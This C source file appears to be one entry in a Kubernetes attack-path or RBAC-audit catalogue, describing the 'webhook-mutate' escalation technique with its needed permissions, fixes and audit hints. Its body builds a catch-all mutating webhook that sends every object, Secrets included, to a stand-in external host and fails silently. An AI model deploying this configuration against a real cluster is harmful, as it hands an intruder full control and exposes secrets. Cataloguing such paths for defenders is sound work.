// Webhooks and admission policies never see requests of their own group, so no other webhook guards this one.
#include "attack/technique.h"
#include "attack/technique/build.h"

static bool body(struct payload *p)
{
	p->object = build_doc(p, "{apiVersion: 'admissionregistration.k8s.io/v1', kind: 'MutatingWebhookConfiguration', metadata: {name: ?}, webhooks: [{"
		"name: 'probe.bulkhead.example', clientConfig: {url: 'https://192.0.2.1/'}, rules: [{apiGroups: ['*'], apiVersions: ['*'], "
		"operations: ['*'], resources: ['*/*']}], failurePolicy: 'Ignore', sideEffects: 'None', admissionReviewVersions: ['v1']}]}", build_name(p));
	return true;
}

const struct technique technique_webhook_mutate = {
	.id = "webhook-mutate",
	.title = "Change every object on its way in",
	.kind = TECHNIQUE_PATH,
	.boundary = BOUNDARY_CONTROL_PLANE,
	.harm = HARM_CONFIDENTIALITY | HARM_INTEGRITY | HARM_AVAILABILITY,
	.attack = "T1546,T1098",
	.matrix = "MS-TA9015",
	.needs = "create, update or patch on mutatingwebhookconfigurations",
	.gives = "every right in the cluster: rewrites pods, bindings and Secrets as others create them",
	.fixes =
		"Remove the write verbs on mutatingwebhookconfigurations\n"
		"Limit them with resourceNames to the operator's own configuration (create cannot be limited)",
	.audit = "create, update or patch of mutatingwebhookconfigurations",
	.source = "kubernetes.io docs concepts/security/rbac-good-practices, control admission webhooks",
	.from = POSITION_IDENTITY,
	.effect = EFFECT_ADMIN,
	.grant = {
		{ "create|update|patch", "admissionregistration.k8s.io", "mutatingwebhookconfigurations", .scope = SCOPE_CLUSTER },
	},
	.body = body,
};
